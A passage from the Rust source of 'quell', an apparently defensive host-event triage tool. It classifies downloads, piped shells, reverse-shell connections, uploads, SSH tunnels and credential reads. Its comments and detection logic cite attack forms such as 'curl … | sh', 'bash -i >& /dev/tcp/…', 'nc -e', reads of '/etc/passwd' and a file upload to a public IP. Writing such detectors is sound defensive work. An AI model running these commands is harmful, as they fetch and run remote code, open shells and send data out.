            return None;
        }
        let words: Vec<&str> = cmd.split_whitespace().skip(1).collect();
        if let Some(i) = words.iter().position(|w| *w == "-c") {
            let script = words[i + 1..].join(" ");
            for seg in script.split([';', '&', '|', '(', ')', '\n', '`']) {
                let first = seg
                    .split_whitespace()
                    .map(|w| w.trim_matches(|c| c == '"' || c == '\''))
                    .find(|w| !w.contains('=') && !w.is_empty());
                if let Some(p) = first.filter(|p| in_drop_dir(p)) {
                    return Some(p.to_string());
                }
                // `sh /tmp/x.sh` inside the string
                let mut ws = seg.split_whitespace();
                if let (Some(prog), Some(arg)) = (ws.next(), ws.find(|w| !w.starts_with('-'))) {
                    let base = prog.rsplit('/').next().unwrap_or(prog);
                    let arg = arg.trim_matches(|c| c == '"' || c == '\'');
                    if matches!(role(base), Role::Shell | Role::Interpreter) && in_drop_dir(arg) {
                        return Some(arg.to_string());
                    }
                }
            }
            return None;
        }
        words
            .iter()
            .find(|w| !w.starts_with('-'))
            .filter(|p| in_drop_dir(p))
            .map(|p| p.to_string())
    };
    check(text(ev, "proc.name"), text(ev, "proc.cmdline"))
        .or_else(|| check(text(ev, "proc.pname"), text(ev, "proc.pcmdline")))
}

/// What quell saw in the whole input that refutes work nobody entered: processes in a
/// container whose own events show a pid other than 1 (an `exec`'d process, not the
/// entrypoint), and schedule entries written (a cron job is not trusted after its
/// schedule changed under quell's eyes). Built from every record, including the plain
/// events `quell triage` only counts (see `Stream`).
#[derive(Debug, Default)]
pub struct WorkSeen {
    /// `host/container/pid` of container processes seen with `proc.vpid` other than 1.
    not_init: std::collections::HashSet<String>,
    /// `host/container` -> times the schedule was written (`None`: untimed) and whose
    /// jobs each write can start.
    schedule: std::collections::HashMap<String, Vec<(Option<u64>, ScheduleScope)>>,
    buf: String,
}

impl WorkSeen {
    /// From all records.
    pub fn build(records: &[crate::input::Record]) -> WorkSeen {
        let mut w = WorkSeen::default();
        for r in records {
            w.note(r);
        }
        w
    }

    fn place(r: &crate::input::Record) -> (String, String) {
        (
            r.hostname.clone().unwrap_or_default(),
            text(&r.event, "container.id").unwrap_or_else(|| "host".into()),
        )
    }

    /// Notes one record.
    pub fn note(&mut self, r: &crate::input::Record) {
        use std::fmt::Write;
        let ev = &r.event;
        // A package manager installing a package's own cron entry (its maintainer script
        // writes /etc/cron.d/PKG) is software from the repositories, not a schedule
        // change by a person or an intruder (a local package is the forgery left open).
        let by_package = || {
            lineage(ev)
                .iter()
                .any(|(_, n, _)| role(n) == Role::PackageManager)
        };
        if let Some(entry) = schedule_write(ev).filter(|_| !by_package()) {
            let (h, c) = Self::place(r);
            let scope = schedule_scope(ev, &entry);
            self.schedule
                .entry(format!("{h}/{c}"))
                .or_default()
                .push((ev.timestamp_ns(), scope));
        }
        let Some(c) = text(ev, "container.id").filter(|c| !c.is_empty() && c != "host") else {
            return;
        };
        let (Some(pid), Some(vpid)) = (int(ev, "proc.pid"), int(ev, "proc.vpid")) else {
            return;
        };
        if vpid == 1 {
            return;
        }
        self.buf.clear();
        let _ = write!(
            self.buf,
            "{}/{c}/{pid}",
            r.hostname.as_deref().unwrap_or_default()
        );
        if !self.not_init.contains(self.buf.as_str()) {
            self.not_init.insert(self.buf.clone());
        }
    }

    /// [`WorkSeen::note`] of a plain event from its parts (no copy of the event).
    pub fn note_plain(&mut self, host: &str, container: &str, pid: i64, vpid: i64) {
        use std::fmt::Write;
        if vpid == 1 || container.is_empty() || container == "host" {
            return;
        }
        self.buf.clear();
        let _ = write!(self.buf, "{host}/{container}/{pid}");
        if !self.not_init.contains(self.buf.as_str()) {
            self.not_init.insert(self.buf.clone());
        }
    }

    /// Whether quell saw the process `pid` of the record's container with a pid other
    /// than 1 in the container.
    pub fn not_init(&self, r: &crate::input::Record, pid: i64) -> bool {
        let (h, c) = Self::place(r);
        self.not_init.contains(&format!("{h}/{c}/{pid}"))
    }

    /// Whether a schedule entry of the record's host and container that can have started
    /// the record's job ([`schedule_reaches`]) was written at or before the record's time
    /// (any time, when either is untimed).
    pub fn schedule_written_before(&self, r: &crate::input::Record) -> bool {
        let (h, c) = Self::place(r);
        let at = r.event.timestamp_ns();
        self.schedule.get(&format!("{h}/{c}")).is_some_and(|ts| {
            ts.iter().any(|(t, scope)| {
                let before = match (t, at) {
                    (Some(t), Some(at)) => *t <= at,
                    _ => true,
                };
                before && schedule_reaches(scope, &r.event)
            })
        })
    }
}

/// Whether the process runs as a system account: a name from [`SYSTEM_ACCOUNTS`], or a uid
/// from 1 to 999 (or 65534), unless the login uid shows a person who changed user
/// (`sudo -u postgres` by an admin).
pub fn system_account(ev: &FlatEvent) -> Option<String> {
    let name = text(ev, "user.name");
    let uid = int(ev, "user.uid");
    let sys_uid = |u: i64| (1..1000).contains(&u) || u == 65534;
    let by_name = name
        .as_deref()
        .is_some_and(|n| SYSTEM_ACCOUNTS.contains(&n));
    let by_uid = uid.is_some_and(sys_uid);
    if !(by_name || by_uid) {
        return None;
    }
    // A person's login uid (root or a regular user) behind a change of user.
    let login = int(ev, "user.loginuid").filter(|l| *l >= 0 && *l != 4_294_967_295);
    if login.is_some_and(|l| l == 0 || (1000..65534).contains(&l)) {
        return None;
    }
    Some(name.unwrap_or_else(|| format!("uid {}", uid.unwrap_or(-1))))
}

/// Whether a standard stream of the process is a network socket (`proc.stdin_type` etc.).
fn network_stdio(ev: &FlatEvent) -> Option<String> {
    for k in ["proc.stdin_type", "proc.stdout_type", "proc.stderr_type"] {
        if let Some(t) = text(ev, k) {
            if matches!(t.as_str(), "ipv4" | "ipv6") {
                let which = k.trim_start_matches("proc.").trim_end_matches("_type");
                return Some(format!("{which} is an {t} socket"));
            }
        }
    }
    None
}

/// Reads the actor facts of an event.
pub fn actor(ev: &FlatEvent) -> Actor {
    let mut a = Actor {
        tty: int(ev, "proc.tty").is_some_and(|t| t != 0),
        system_account: system_account(ev),
        network_stdio: network_stdio(ev),
        ..Actor::default()
    };
    let lin = lineage(ev);
    let mut shell_below: Option<String> = None;
    let mut past_runtime = false;
    for (i, (level, name, exe)) in lin.iter().enumerate() {
        let r = role(name);
        // Above a container runtime is the host's side: how the runtime was started is not
        // how the container's process was entered.
        if *level > 0 && !past_runtime {
            match r {
                Role::Login if a.entry.is_none() => a.entry = Some(name.clone()),
                Role::Runtime if a.runtime.is_none() => a.runtime = Some(name.clone()),
                Role::Scheduler if a.scheduler.is_none() => a.scheduler = Some(name.clone()),
                Role::Service => {
                    if a.service.is_none() {
                        a.service = Some(name.clone());
                    }
                    if a.service_shell.is_none() {
                        if let Some(sh) = &shell_below {
                            a.service_shell = Some((name.clone(), sh.clone()));
                        }
                    }
                }
                _ => {}
            }
        }
        if r == Role::Shell {
            shell_below = Some(name.clone());
        }
        if *level > 0 && r == Role::Runtime {
            past_runtime = true;
        }
        if a.dropped_exe.is_none() && *level <= MAX_DROP_LEVEL {
            if let Some(p) = exe
                .as_deref()
                .filter(|p| in_drop_dir(p) && !p.starts_with("memfd:runc"))
            {
                a.dropped_exe = Some((*level, p.to_string()));
                a.dropped_parent = lin.get(i + 1).map(|(_, n, _)| n.clone());
            }
        }
    }
    if a.dropped_exe.is_none() {
        let memfd = matches!(
            ev.get("proc.is_exe_from_memfd"),
            Some(quell_rules::Value::Bool(true))
        );
        let upper = matches!(
            ev.get("proc.is_exe_upper_layer"),
            Some(quell_rules::Value::Bool(true))
        );
        if memfd || upper {
            a.dropped_exe = Some((0, text(ev, "proc.exepath").unwrap_or_else(|| "?".into())));
            a.dropped_parent = text(ev, "proc.pname");
        }
    }
    a
}

/// Programs a service's shell may not run for its command to count as plain: they reach
/// the network, start another shell or interpreter, or open a remote session.
fn reaches_out_or_nests(word: &str) -> bool {
    let base = word.rsplit('/').next().unwrap_or(word);
    // An interpreter by its exact name, with a version at most (`python3.11`, `php8.2`),
    // not any word that starts like one (PHP's upload files are `/tmp/phpXXXXXX`).
    let interpreter = ["python", "php", "perl", "ruby", "node", "lua"]
        .iter()
        .any(|i| {
            base.strip_prefix(i)
                .is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'))
        })
        || INTERPRETERS.contains(&base);
    SHELLS.contains(&base)
        || interpreter
        || DOWNLOADERS.contains(&base)
        || NET_TOOLS.contains(&base)
        || matches!(base, "ssh" | "openssl" | "xterm")
}

/// Directories the system's own programs live in.
const SYSTEM_BIN_DIRS: &[&str] = &[
    "/usr/bin/",
    "/bin/",
    "/usr/sbin/",
    "/sbin/",
    "/usr/libexec/",
    "/usr/local/bin/",
];

/// The command a service's shell ran, when it is *plain*: the process is a shell started
/// right below the service (`php-fpm → sh -c CMD`), this event is its start (`execve`),
/// and `CMD` is one simple command of the system's own: no second command, pipe,
/// substitution, variable, grouping or redirection (except to `/dev/null` and `2>&1`), no
/// URL or `/dev/tcp`, neither its program nor any of its words a shell, an interpreter, a
/// download or network tool, and the program a bare name or under a system directory. A
/// web application's mail or image conversion is plain; `curl … | sh`,
/// `bash -i >& /dev/tcp/…`, `nc -e`, `/tmp/x` are not. Only the shell's own start is
/// weighed so: an alert on the program it runs, or on what that program does (a log
/// cleared, a process traced, `shred` run), means the command itself is flagged, and the
/// shell-out is not an application's design. `None` when there is no service's shell or it
/// is not plain.
pub fn plain_service_command(ev: &FlatEvent) -> Option<String> {
    if !is_exec(ev) {
        return None;
    }
    let lin = lineage(ev);
    let svc = lin
        .iter()
        .position(|(l, n, _)| *l > 0 && role(n) == Role::Service)?;
    let shell_at = svc.checked_sub(1)?;
    let (shell_level, shell_name, _) = lin.get(shell_at)?;
    if *shell_level != 0 || role(shell_name) != Role::Shell {
        return None;
    }
    let cmdline = text(ev, "proc.cmdline")?;
    let (_, rest) = cmdline.split_once(" -c ")?;
    let cmd = rest.trim().trim_matches(|c| c == '"' || c == '\'');
    // Harmless redirections are set aside; anything else that is not a plain word fails.
    let words: Vec<&str> = cmd
        .split_whitespace()
        .filter(|w| {
            !matches!(
                *w,
                "2>&1" | ">/dev/null" | "2>/dev/null" | "1>/dev/null" | "&>/dev/null"
            )
        })
        .collect();
    let mut kept: Vec<&str> = Vec::new();
    let mut i = 0;
    while i < words.len() {
        // `> /dev/null`, `2> /dev/null`
        if matches!(words[i], ">" | "2>" | "1>" | "&>") && words.get(i + 1) == Some(&"/dev/null") {
            i += 2;
            continue;
        }
        kept.push(words[i]);
        i += 1;
    }
    const META: &[char] = &[
        ';', '&', '|', '<', '>', '`', '$', '(', ')', '{', '}', '\n', '\\',
    ];
    let first = *kept.first()?;
    if first.contains('=') {
        return None; // an assignment before the command (`LD_PRELOAD=… cmd`)
    }
    if kept.iter().any(|w| {
        w.contains(META)
            || w.contains("://")
            || w.contains("/dev/tcp")
            || w.contains("/dev/udp")
            || reaches_out_or_nests(w.trim_matches(|c| c == '"' || c == '\''))
    }) {
        return None;
    }
    if first.contains('/') && !SYSTEM_BIN_DIRS.iter().any(|d| first.starts_with(d)) {
        return None;
    }
    if first.contains("/../") || in_drop_dir(first) {
        return None;
    }
    // A command that reads or touches authentication records, credentials or a
    // persistence location (`cat /etc/passwd`, `cp x ~/.ssh/authorized_keys`) is what a
    // web shell runs first, not a mail or image helper.
    if kept.iter().skip(1).any(|w| {
        let w = w.trim_matches(|c| c == '"' || c == '\'');
        w.contains('/')
            && (is_credential(w)
                || matches!(sensitivity(w), Sensitivity::High | Sensitivity::Persistence))
    }) {
        return None;
    }
    Some(kept.join(" "))
}

/// The kind of a session event, for context.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Activity {
    /// A fetch that writes a file (or a copy from a remote host): (program, command line).
    Download(String, String),
    /// A fetch whose body goes to standard output (counted as a download only when a
    /// shell reading its standard input follows): (program, command line).
    FetchToStdout(String, String),
    /// A shell or interpreter reading its program from standard input (`sh`, `bash -s`,
    /// `python -`): its command line.
    ShellFromStdin(String),
    /// A program ran from a drop directory or memfd: its path.
    ExecDropped(String),
    /// A file was opened for writing in a drop directory, or where programs are installed
    /// ([`crate::catalogue::installed_location`]): (path, writer's name).
    WroteFile(String, String),
    /// A connection that looks like a reverse shell, a tunnel or an unusual service:
    /// (address, connecting program).
    Outbound(String, String),
    /// A standard stream was redirected to a network socket (`dup2` onto fd 0-2).
    NetworkStdio(String),
    /// A credential file was read: (path, reader's name).
    CredentialRead(String, String),
    /// A known-maintenance program ran (catalogue actor): its name.
    Maintenance(String),
    /// A file where an intruder persists ([`persists`]: a cron entry, a systemd unit,
    /// `authorized_keys`, a shell start-up file) was opened for writing: (path, writer's name).
    PersistenceWrite(String, String),
    /// Contact with another host that is not weighed on its own: an upload, a request
    /// whose body is discarded, a copy to a remote host, or an ordinary client's connection
    /// to a public address: (destination, program, outside). `outside` is false for an
    /// address inside the host or its private networks (see [`host_is_outside`]). It only
    /// tells whether data may have left the site (a scheduled job's credential read).
    Contact(String, String, bool),
    /// A schedule entry (crontab, cron directory, timer or service unit) was written, or
    /// `crontab` installed a table: (entry or command, writer's name). A scheduler's job
    /// is not evidence of work nobody entered while its schedule changes in the capture.
    WroteSchedule(String, String),
    /// A step toward an attack that the event shows by itself (see [`attack_step`]): weighed
    /// only by the test of a person's quiet session, which also re-reads every other
    /// activity's event for one.
    Step(Step, String),
}

/// Whether a host (an address or a name, from a URL or a `host:path` argument) may be
/// outside the site: an address not [`is_inside`], or any name but `localhost` (a name is
/// not resolved: unknown counts as outside).
pub fn host_is_outside(host: &str) -> bool {
    let h = host.trim_matches(|c| c == '[' || c == ']');
    match h.parse::<IpAddr>() {
        Ok(ip) => !is_inside(&ip),
        Err(_) => !is_loopback_host(&h.to_ascii_lowercase()),
    }
}

/// The remote hosts of a `scp`/`rsync`/`sftp` command line (`[user@]host:path`, URLs).
fn remote_hosts(cmd: &str) -> Vec<String> {
    let mut out = url_hosts(cmd);
    for w in cmd.split_whitespace().skip(1) {
        if w.starts_with('-') || w.starts_with('/') || w.starts_with('.') || w.contains("://") {
            continue;
        }
        if let Some((h, _)) = w.split_once(':') {
            let h = h.rsplit_once('@').map_or(h, |(_, h)| h);
            if !h.is_empty() {
                out.push(h.to_ascii_lowercase());
            }
        }
    }
    out
}

pub(crate) fn is_exec(ev: &FlatEvent) -> bool {
    let ok = int(ev, "evt.rawres").is_none_or(|r| r == 0)
        && !matches!(ev.get("evt.failed"), Some(quell_rules::Value::Bool(true)));
    matches!(text(ev, "evt.type").as_deref(), Some("execve" | "execveat")) && ok
}

/// Whether an address is local (loopback, unspecified, link-local).
pub fn is_local(ip: &IpAddr) -> bool {
    match ip {
        IpAddr::V4(v) => v.is_loopback() || v.is_unspecified() || v.is_link_local(),
        IpAddr::V6(v) => {
            v.is_loopback() || v.is_unspecified() || (v.segments()[0] & 0xffc0) == 0xfe80
        }
    }
}

/// Where a login came from, when outside the site (see [`is_inside`]): the client's address
/// of a login daemon (`sshd`, `login`...; see [`LOGIN_ENTRIES`]) accepting a connection,
/// or the client address `sshd` puts in a process's environment (`SSH_CONNECTION`,
/// `SSH_CLIENT`, first word), when the event carries it (`proc.env`).
pub fn login_from_outside(ev: &FlatEvent) -> Option<String> {
    let outside = |ip: IpAddr| (!is_inside(&ip)).then(|| ip.to_string());
    let ty = text(ev, "evt.type")?;
    if matches!(ty.as_str(), "accept" | "accept4") {
        if role(&text(ev, "proc.name")?) != Role::Login {
            return None;
        }
        let ip: IpAddr = match ev.get("fd.cip") {
            Some(quell_rules::Value::Ip(ip)) => *ip,
            _ => text(ev, "fd.cip")?.parse().ok()?,
        };
        return outside(ip);
    }
    ssh_client_in_env(&text(ev, "proc.env")?).and_then(outside)
}

/// The client address in an environment string (`K=V K=V`, as `proc.env` gives it) from
/// `SSH_CONNECTION=` or `SSH_CLIENT=`.
fn ssh_client_in_env(env: &str) -> Option<IpAddr> {
    ["SSH_CONNECTION=", "SSH_CLIENT="].iter().find_map(|k| {
        let at = env.find(k)?;
        // A whole variable name, not the end of another one.
        if at > 0 && !env[..at].ends_with(' ') {
            return None;
        }
        env[at + k.len()..]
            .split_whitespace()
            .next()?
            .trim_matches(|c| c == '"' || c == '\'')
            .parse()
            .ok()
    })
}

/// Whether an address is inside the host or its private networks (loopback, link-local,
/// RFC 1918, shared address space 100.64/10, IPv6 unique-local): a cluster's or a site's
/// own servers, as opposed to a public destination.
pub fn is_inside(ip: &IpAddr) -> bool {
    is_local(ip)
        || match ip {
            IpAddr::V4(v) => {
                v.is_private() || (v.octets()[0] == 100 && (v.octets()[1] & 0xc0) == 64)
            }
            IpAddr::V6(v) => (v.segments()[0] & 0xfe00) == 0xfc00,
        }
}

/// The server side's address of a connection event.
pub(crate) fn server_ip(ev: &FlatEvent) -> Option<IpAddr> {
    for k in ["fd.sip", "fd.rip"] {
        if let Some(quell_rules::Value::Ip(ip)) = ev.get(k) {
            return Some(*ip);
        }
        if let Some(ip) = text(ev, k).and_then(|s| s.parse().ok()) {
            return Some(ip);
        }
    }
    // `fd.name` of a connection: `a:p->b:q`.
    let name = text(ev, "fd.name")?;
    let (_, remote) = name.split_once("->")?;
    let host = remote.rsplit_once(':').map(|(h, _)| h).unwrap_or(remote);
    host.trim_matches(|c| c == '[' || c == ']').parse().ok()
}

fn server_port(ev: &FlatEvent) -> Option<u16> {
    for k in ["fd.sport", "fd.rport"] {
        if let Some(p) = int(ev, k).and_then(|p| u16::try_from(p).ok()) {
            return Some(p);
        }
    }
    let name = text(ev, "fd.name")?;
    let (_, remote) = name.split_once("->")?;
    remote.rsplit_once(':')?.1.parse().ok()
}

/// The hosts named by the URLs of a command line (`scheme://host[:port]/...`).
pub(crate) fn url_hosts(cmd: &str) -> Vec<String> {
    cmd.split_whitespace()
        .filter_map(|w| {
            let w = w.trim_matches(|c| c == '"' || c == '\'');
            let (_, rest) = w.split_once("://")?;
            let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
            let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
            let host = if let Some(h) = host.strip_prefix('[') {
                h.split(']').next().unwrap_or("")
            } else {
                host.split(':').next().unwrap_or("")
            };
            Some(host.to_ascii_lowercase())
        })
        .collect()
}

fn is_loopback_host(h: &str) -> bool {
    h == "localhost"
        || h.ends_with(".localhost")
        || h.parse::<IpAddr>().is_ok_and(|ip| ip.is_loopback())
}

/// Whether the shell command line `cmdline` pipes the output of the program `prog` into a
/// shell or an interpreter (`sh -c 'curl -fsS URL | sh'`, `bash -c "wget -qO- URL | sudo
/// python3"`): some stage of a pipeline runs `prog`, and the next stage's program (after
/// `sudo`, `env` and their options or assignments) is a shell or an interpreter. `||` is
/// not a pipe.
pub fn pipes_into_shell(cmdline: &str, prog: &str) -> bool {
    let program = |stage: &str| -> Option<String> {
        stage
            .split_whitespace()
            .map(|w| w.trim_matches(|c| c == '"' || c == '\'' || c == '(' || c == '`'))
            .filter(|w| !w.is_empty() && !w.starts_with('-') && !w.contains('='))
            .map(|w| w.rsplit('/').next().unwrap_or(w))
            .find(|w| !matches!(*w, "sudo" | "env" | "exec" | "nohup" | "command"))
            .map(str::to_string)
    };
    let runs_prog = |stage: &str| {
        stage.split_whitespace().any(|w| {
            let w = w.trim_matches(|c| c == '"' || c == '\'' || c == '(' || c == '`');
            w.rsplit('/').next() == Some(prog)
        })
    };
    // `a || b` splits into separate commands, never a pipe: only stages joined by a single
    // `|` inside one `||`-separated part follow each other.
    cmdline.split("||").any(|part| {
        let stages: Vec<&str> = part.split('|').collect();
        stages.windows(2).any(|w| {
            runs_prog(w[0])
                && program(w[1])
                    .is_some_and(|p| matches!(role(&p), Role::Shell | Role::Interpreter))
        })
    })
}

/// What a fetch tool's command line does: `Some(true)` when it writes a file, `Some(false)`
/// when the body goes to standard output, `None` when it is not a fetch (an upload, a
/// request whose body is discarded, no URL).
fn fetch_writes(name: &str, cmd: &str) -> Option<bool> {
    let words: Vec<&str> = cmd.split_whitespace().collect();
    let next = |i: usize| words.get(i + 1).copied().unwrap_or("");
    let discard = |dest: &str| dest == "/dev/null" || dest == "-";
    match name {
        "curl" => {
            let mut writes = false;
            for (i, w) in words.iter().enumerate() {
                let w = *w;
                // Uploads: a file or form sent, not fetched.
                if w == "-T"
                    || w.starts_with("--upload-file")
                    || w == "-F"
                    || w.starts_with("--form")
                    || ((w == "-d" || w.starts_with("--data")) && next(i).starts_with('@'))
                    || (w.starts_with("--data") && w.contains("=@"))
                    || (w.starts_with("-d@") || w.starts_with("-T"))
                {
                    return None;
                }
                if w == "-o" || w == "--output" {
                    if discard(next(i)) {
                        return None;
                    }
                    writes = true;
                } else if let Some(d) = w.strip_prefix("--output=") {
                    if discard(d) {
                        return None;
                    }
                    writes = true;
                } else if w == "-O" || w == "--remote-name" || w == "--remote-name-all" {
                    writes = true;
                } else if w.starts_with('-') && !w.starts_with("--") && w.len() > 2 {
                    // Combined short options: `-sSLo file`, `-fsSO`.
                    let flags = &w[1..];
                    if flags.ends_with('o') {
                        if discard(next(i)) {
                            return None;
                        }
                        writes = true;
                    } else if flags.contains('O') {
                        writes = true;
                    }
                }
            }
            Some(writes)
        }
        "wget" => {
            if words
                .iter()
                .any(|w| *w == "--spider" || w.starts_with("--post-file"))
            {
                return None;
            }
            for (i, w) in words.iter().enumerate() {
                let w = *w;
                if w == "-O" || w == "--output-document" {
                    let d = next(i);
                    return if d == "/dev/null" {
                        None
                    } else {
                        Some(d != "-")
                    };
                }
                if let Some(d) = w.strip_prefix("--output-document=") {
                    return if d == "/dev/null" {
                        None
                    } else {
                        Some(d != "-")
                    };
                }
                if w.starts_with('-') && !w.starts_with("--") && w.ends_with('O') {
                    let d = next(i);
                    return if d == "/dev/null" {
                        None
                    } else {
                        Some(d != "-")
                    };
                }
                if let Some(d) = w.strip_prefix("-qO").or_else(|| w.strip_prefix("-O")) {
                    if !d.is_empty() {
                        return if d == "/dev/null" {
                            None
                        } else {
                            Some(d != "-")
                        };
                    }
                }
            }
            Some(true)
        }
        _ => Some(true),
    }
}

/// Whether `scp`/`rsync`/`sftp` copies from a remote host to a local path.
fn copies_from_remote(cmd: &str) -> bool {
    let args: Vec<&str> = cmd
        .split_whitespace()
        .skip(1)
        .filter(|w| !w.starts_with('-'))
        .collect();
    let remote = |w: &str| {
        !w.starts_with('/')
            && !w.starts_with('.')
            && (w.contains("://") || w.split_once(':').is_some_and(|(h, _)| !h.is_empty()))
    };
    match args.split_last() {
        Some((dest, srcs)) => !remote(dest) && srcs.iter().any(|s| remote(s)),
        None => false,
    }
}

/// The public address (an IP literal outside the site) a transfer tool's command line
/// sends a local file to, if it does: `curl -T`/`-F`/`--data-binary @FILE`, `wget
/// --post-file`, `scp`/`rsync`/`sftp` from a local path to `HOST:`. A host given by name
/// is not judged (where a name points is not on the command line).
fn uploads_to_public_ip(name: &str, cmd: &str, hosts: &[String]) -> Option<String> {
    if !sends_file(name, cmd) {
        return None;
    }
    hosts.iter().find_map(|h| {
        let h = h.trim_matches(|c| c == '[' || c == ']');
        match h.parse::<IpAddr>() {
            Ok(ip) if !is_inside(&ip) => Some(h.to_string()),
            _ => None,
        }
    })
}

/// Whether a copy or fetch tool's command line sends a local file: curl's upload, a form
/// field or data read from a file (`-T F`, `-F f=@F`, `-d @F`), wget's posted file, or an
/// `scp`/`sftp`/`rsync` copy that is not from a remote host.
fn sends_file(name: &str, cmd: &str) -> bool {
    let words: Vec<&str> = cmd.split_whitespace().collect();
    match name {
        "curl" => words.iter().enumerate().any(|(i, w)| {
            let next = words.get(i + 1).copied().unwrap_or("");
            *w == "-T"
                || w.starts_with("--upload-file")
                || (w.starts_with("-T") && w.len() > 2)
                || ((*w == "-F" || *w == "--form") && next.contains("=@"))
                || (w.starts_with("--form=") && w.contains("=@"))
                || ((*w == "-d" || w.starts_with("--data")) && next.starts_with('@'))
                || (w.starts_with("--data") && w.contains("=@"))
                || w.starts_with("-d@")
        }),
        "wget" => words
            .iter()
            .any(|w| w.starts_with("--post-file") || w.starts_with("--body-file")),
        "scp" | "sftp" | "rsync" => !copies_from_remote(cmd),
        _ => false,
    }
}

/// The destination host of an `ssh` command line that opens a tunnel (port forwarding
/// `-D`, `-L`, `-R` or a tun device `-w`): a SOCKS proxy or a forwarded port is a network
/// tool's connection, not a remote command. `None` for a plain `ssh host cmd`.
pub fn ssh_tunnel(cmd: &str) -> Option<String> {
    // Options that take an argument (OpenSSH's `ssh` synopsis).
    const WITH_ARG: &str = "BbcDEeFIiJLlmOoPpQRSWw";
    let mut words = cmd.split_whitespace().skip(1);
    let mut tunnel = false;
    let mut dest = None;
    while let Some(w) = words.next() {
        match w.strip_prefix('-') {
            Some(flags) if !flags.is_empty() => {
                for (i, c) in flags.char_indices() {
                    if matches!(c, 'D' | 'L' | 'R' | 'w') {
                        tunnel = true;
                    }
                    if WITH_ARG.contains(c) {
                        if i + c.len_utf8() == flags.len() {
                            words.next();
                        }
                        break;
                    }
                }
            }
            _ => {
                dest = Some(
                    w.rsplit_once('@')
                        .map_or(w, |(_, h)| h)
                        .to_ascii_lowercase(),
                );
                break;
            }
        }
    }
    if tunnel {
        dest
    } else {
        None
    }
}

/// What one event did, when it is of a kind the session context weighs.
pub fn activity(ev: &FlatEvent, is_maintenance: &dyn Fn(&str) -> bool) -> Option<Activity> {
    let found = activity_of(ev, is_maintenance);
    // `quell triage` counts an event without building it when
    // [`crate::triage::cannot_be_activity`] says so: that filter must be a necessary condition
    // of this function. Every debug run (unit, corpus, judgment and live tests) checks it on
    // every event it weighs; `tests/plain_events.rs` checks it on purpose.
    debug_assert!(
        found.is_none() || !crate::triage::cannot_be_activity(ev),
        "activity {found:?} on an event cannot_be_activity filters out: widen that filter"
    );
    found
}

fn activity_of(ev: &FlatEvent, is_maintenance: &dyn Fn(&str) -> bool) -> Option<Activity> {
    let ty = text(ev, "evt.type")?;
    if let Some(entry) = schedule_write(ev) {
        // A schedule entry opened for writing is a persistence write first (the session's
        // `session_persistence` veto weighs it); the scheduler's own index of written entries
        // reads `schedule_write` on the records, whatever the activity.
        if matches!(ty.as_str(), "open" | "openat" | "openat2") {
            if let Some(act @ Activity::PersistenceWrite(..)) = open_activity(ev) {
                return Some(act);
            }
        }
        return Some(Activity::WroteSchedule(
            entry,
            text(ev, "proc.name").unwrap_or_default(),
        ));
    }
    if is_exec(ev) {
        let name = text(ev, "proc.name").unwrap_or_default();
        let exe = text(ev, "proc.exepath").unwrap_or_default();
        if (in_drop_dir(&exe) && !exe.starts_with("memfd:runc"))
            || matches!(
                ev.get("proc.is_exe_from_memfd"),
                Some(quell_rules::Value::Bool(true))
            )
        {
            return Some(Activity::ExecDropped(exe));
        }
        let cmd = text(ev, "proc.cmdline").unwrap_or_default();
        if DOWNLOADERS.contains(&name.as_str()) {
            match name.as_str() {
                "scp" | "sftp" | "rsync" => {
                    if copies_from_remote(&cmd) {
                        return Some(Activity::Download(name, cmd));
                    }
                    let hosts = remote_hosts(&cmd);
                    if let Some(ip) = uploads_to_public_ip(&name, &cmd, &hosts) {
                        return Some(Activity::Outbound(ip, name));
                    }
                    if !hosts.is_empty() {
                        let outside = hosts.iter().any(|h| host_is_outside(h));
                        return Some(Activity::Contact(hosts.join(","), name, outside));
                    }
                }
                _ => {
                    let hosts = url_hosts(&cmd);
                    let local_only = !hosts.is_empty() && hosts.iter().all(|h| is_loopback_host(h));
                    // The body piped into a shell or an interpreter by the parent's command
                    // line (`sh -c 'curl -s URL | sh'`): a download run as a program, even
                    // when the reading shell's own start was not captured.
                    let run_by_parent =
                        text(ev, "proc.pcmdline").is_some_and(|p| pipes_into_shell(&p, &name));
                    match fetch_writes(&name, &cmd) {
                        Some(true) if !hosts.is_empty() || name == "tftp" || name == "ftp" => {
                            return Some(Activity::Download(name, cmd))
                        }
                        Some(false) if !hosts.is_empty() && !local_only && run_by_parent => {
                            return Some(Activity::Download(name, cmd))
                        }
                        Some(false) if !hosts.is_empty() && !local_only => {
                            return Some(Activity::FetchToStdout(name, cmd))
                        }
                        Some(false) if local_only => {
                            // A health check or a local API call: weighed only if a shell
                            // reads it.
                            return Some(Activity::FetchToStdout(name, cmd));
                        }
                        // A request to this host's own loopback that sends no file (`curl -s
                        // -o /dev/null http://localhost:8080/health`) reaches no other host. An
                        // upload to it still counts (a local port may forward elsewhere).
                        None if local_only && !sends_file(&name, &cmd) => {}
                        None if !hosts.is_empty() => {
                            // A local file sent to a public address written as a number
                            // (`curl -T FILE https://203.0.113.9/`): data leaving the site,
                            // weighed as an unusual connection out.
                            if let Some(ip) = uploads_to_public_ip(&name, &cmd, &hosts) {
                                return Some(Activity::Outbound(ip, name));
                            }
                            // An upload or a request whose body is discarded.
                            let outside = hosts.iter().any(|h| host_is_outside(h));
                            return Some(Activity::Contact(hosts.join(","), name, outside));
                        }
                        _ => {}
                    }
                }
            }
        }
        if let Some(dest) = (name == "ssh").then(|| ssh_tunnel(&cmd)).flatten() {
            return Some(Activity::Outbound(dest, name));
        }
        if role(&name) == Role::Shell || role(&name) == Role::Interpreter {
            let args: Vec<&str> = cmd.split_whitespace().skip(1).collect();
            let from_stdin = args.is_empty()
                || args == ["-"]
                || args.first().is_some_and(|a| *a == "-s" || *a == "-")
                || (args.len() == 1 && matches!(args[0], "-i" | "-l"));
            let piped = text(ev, "proc.stdin_type").is_some_and(|t| t == "pipe");
            if from_stdin
                && (piped || text(ev, "proc.stdin_type").is_none())
                && int(ev, "proc.tty").is_none_or(|t| t == 0)
            {
                return Some(Activity::ShellFromStdin(cmd));
            }
        }
        if is_maintenance(&name) {
            return Some(Activity::Maintenance(name));
        }
        return attack_step(ev).map(|(st, what)| Activity::Step(st, what));
    }
    // A datagram sent to an address is UDP's connection: its destination counts as a
    // connect's does (holdout26: a workload's Art-Net sends to an outside address).
    let datagram = matches!(ty.as_str(), "sendto" | "sendmsg")
        && text(ev, "fd.l4proto").is_some_and(|p| p == "udp");
    if ty == "connect" || datagram {
